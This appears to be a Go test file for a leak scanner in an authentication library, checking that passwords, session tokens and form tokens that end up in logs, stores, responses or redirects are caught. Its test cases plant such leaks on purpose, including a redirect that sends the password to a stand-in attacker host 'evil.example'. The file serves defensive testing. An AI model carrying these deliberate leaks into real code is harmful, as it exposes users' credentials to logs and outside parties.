package settingstest_test

import (
	"context"
	"fmt"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/amend-go/amend/respond"
	"github.com/amend-go/amend/session"
	"github.com/amend-go/amend/settings"
	"github.com/amend-go/amend/settings/method"
	"github.com/amend-go/amend/settings/settingstest"
	"github.com/amend-go/amend/settings/store"
)

// A scan that finds nothing shows nothing, unless it finds what is there.
func TestLeaksAreFound(t *testing.T) {
	submit := func(t testing.TB, kind respond.Client, changes ...func(*settings.Config)) *settingstest.Kit {
		kit := settingstest.New(t, changes...)
		client := kit.SignIn(kit.AddIdentity("ada@example.com", oldPassword), kind)
		client.Submit(client.Start(), settingstest.Fields{"method": "careless", "password": newPassword})
		return kit
	}
	for _, row := range []struct {
		name string
		test func(t testing.TB)
		want string
	}{
		{"a password that is logged", func(t testing.TB) {
			kit := submit(t, respond.API)
			kit.Config.Logger.Info("changed", "to", newPassword)
		}, "leaked: password in the log"},
		{"an account's password that is logged", func(t testing.TB) {
			kit := settingstest.New(t)
			kit.AddIdentity("ada@example.com", oldPassword)
			kit.Config.Logger.Debug("added " + oldPassword)
		}, "leaked: password in the log"},
		{"a password in the error of a method", func(t testing.TB) {
			submit(t, respond.API, only(careless{plan: func(value string) method.Plan {
				return method.Plan{Do: func(context.Context) (method.Result, error) {
					return nil, fmt.Errorf("not a good one: %s", value)
				}}
			}}))
		}, "leaked: password in the log"},
		{"a session token of an API client that is logged", func(t testing.TB) {
			kit := settingstest.New(t)
			kit.Config.Logger.Info("signed in", "token", kit.SignIn(kit.AddIdentity("ada@example.com", ""), respond.API).Token)
		}, "leaked: session token in the log"},
		{"a session token of a browser that is logged", func(t testing.TB) {
			kit := settingstest.New(t, func(c *settings.Config) { c.Transport = loggingTransport{log: c} })
			kit.SignIn(kit.AddIdentity("ada@example.com", ""), respond.Page).Whoami()
		}, "leaked: session token in the log"},
		{"the token of a form that is logged", func(t testing.TB) {
			kit := settingstest.New(t)
			kit.Config.Logger.Info("started", "form", kit.SignIn(kit.AddIdentity("ada@example.com", ""), respond.Script).Start().CSRFToken())
		}, "leaked: form token in the log"},
		{"a password kept in a flow", func(t testing.TB) {
			submit(t, respond.Page, only(careless{echo: true, plan: func(string) method.Plan { return refuses("no") }}))
		}, "leaked: password in a store"},
		{"a password kept in an identity", func(t testing.TB) {
			submit(t, respond.Page, only(careless{plan: func(value string) method.Plan { return sets(fmt.Sprintf(`{"was":%q}`, value)) }}))
		}, "leaked: password in a store"},
		{"a password kept in an identity by a backend", func(t testing.TB) {
			submit(t, respond.Page, only(careless{plan: func(value string) method.Plan { return sets(fmt.Sprintf(`{"was":%q}`, value)) }}),
				func(c *settings.Config) { c.Backend = c.Flows.(store.Backend) })
		}, "leaked: password in a store"},
		{"a session token kept in a session", func(t testing.TB) {
			kit := settingstest.New(t)
			ada := kit.AddIdentity("ada@example.com", "")
			token := kit.SignIn(ada, respond.API).Token
			_, _, err := kit.Handler.Sessions.IssueToken(t.Context(), ada, session.Device{UserAgent: token}, "password")
			if err != nil {
				t.Fatal(err)
			}
		}, "leaked: session token in a store"},
		{"a password that is sent back", func(t testing.TB) {
			submit(t, respond.Script, only(careless{plan: func(value string) method.Plan { return refuses(value + " is not allowed") }}))
		}, "leaked: password in an answer"},
		{"a password in a redirect", func(t testing.TB) {
			submit(t, respond.Page, only(careless{plan: func(value string) method.Plan {
				return does(method.Redirect{URL: func(string) string { return "https://evil.example/?p=" + urlEscape(value) }})
			}}))
		}, "leaked: password in an answer"},
		{"a secret of the test's own", func(t testing.TB) {
			kit := settingstest.New(t)
			kit.Secret("recovery key", "JBSWY3DPEHPK3PXP")
			kit.Config.Logger.Info("enrolled JBSWY3DPEHPK3PXP")
		}, "leaked: recovery key in the log"},
	} {
		t.Run(row.name, func(t *testing.T) {
			failures := run(t, row.test)
			require.Contains(t, failures, row.want)
			for _, f := range failures {
				require.NotContains(t, f, "horse", "a failure does not leak it once more")
				require.NotContains(t, f, "amd_st_")
			}
		})
	}
}

func TestWhatIsNoLeak(t *testing.T) {
	for _, kind := range []respond.Client{respond.API, respond.Page, respond.Script} {
		for _, backend := range []bool{false, true} {
			t.Run(fmt.Sprintf("%v, backend %v", kind, backend), func(t *testing.T) {
				failures := run(t, func(t testing.TB) {
					kit := settingstest.New(t, func(c *settings.Config) {
						if backend {
							c.Backend = c.Flows.(store.Backend)
						}
					})
					ada := kit.AddIdentity("ada@example.com", oldPassword)
					client := kit.SignIn(ada, kind) // who gets a session token, and a form's
					f := client.Start()
					client.Submit(f, settingstest.Fields{"method": "password", "password": "ada@example.com"}) // which stands in the traits
					client.Submit(f, settingstest.Fields{"method": "password", "password": "short"})
					client.Submit(f, settingstest.Fields{"method": "password", "password": newPassword})
					client.Whoami()
					kit.Config.Logger.Info("short words of a test, such as short")
					if !kit.PasswordIs(ada, newPassword) {
						t.Error("not changed")
					}
				})
				require.Empty(t, failures)
			})
		}
	}
}
